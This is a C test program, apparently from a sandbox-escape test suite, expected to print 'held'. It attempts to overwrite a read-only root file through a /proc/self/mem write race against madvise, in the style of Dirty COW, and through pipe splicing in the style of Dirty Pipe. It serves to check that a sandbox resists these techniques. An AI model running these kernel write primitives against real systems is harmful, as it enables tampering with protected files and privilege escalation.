//: what     writes to a read-only file through the memory that holds it: by private maps, discarded pages and pipes
//: id       A-105
//: expect   ok
//: output   held
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <time.h>
#include <unistd.h>

// A file of root in this box alone, so that no kernel, however old, lets this reach anybody else's.
static const char VICTIM[] = "/code/solution";
static char *map;
static volatile int is_over;

// Copy on write, raced by the loss of the copy.
static void *discard(void *argument) {
    while (!is_over) {
        madvise(map, 4096, MADV_DONTNEED);
    }
    return argument;
}

static void write_through_memory(void) {
    int memory = open("/proc/self/mem", O_RDWR);
    pthread_t other;
    struct timespec start, now;
    pthread_create(&other, NULL, discard, NULL);
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        pwrite(memory, "changed", 7, (off_t)map);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 < 0.3);
    is_over = 1;
    pthread_join(other, NULL);
    close(memory);
}

// A pipe that was full and is empty, a page of the file in it, and more written behind the page.
static void write_through_pipe(int file) {
    int ends[2];
    char block[4096];
    if (pipe(ends) != 0) {
        return;
    }
    for (int i = 0; i < 16; i++) {
        memset(block, 'x', sizeof block);
        write(ends[1], block, sizeof block);
    }
    for (int i = 0; i < 16; i++) {
        read(ends[0], block, sizeof block);
    }
    loff_t at = 0;
    if (splice(file, &at, ends[1], NULL, 1, 0) != 1) {
        puts("nothing was spliced");
    }
    write(ends[1], "changed", 7);
    // The page given away and taken back.
    struct iovec part = {map, 4096};
    vmsplice(ends[1], &part, 1, 2);
    splice(file, &at, ends[1], NULL, 4096, SPLICE_F_MOVE);
}

int main(void) {
    static char before[8192], after[8192];
    int file = open(VICTIM, O_RDONLY);
    map = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE, file, 0);
    if (map == MAP_FAILED || pread(file, before, sizeof before, 0) != sizeof before) {
        return 1;
    }
    write_through_memory();
    write_through_pipe(file);
    if (mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0) {
        memcpy(map, "changed", 7);
        msync(map, 4096, MS_SYNC);
    }
    char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    int is_writable = mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0;
    pread(file, after, sizeof after, 0);
    int is_changed = memcmp(before, after, sizeof before) != 0;
    puts(is_writable ? "ESCAPED a shared map" : is_changed ? "ESCAPED the file was changed" : "held");
}
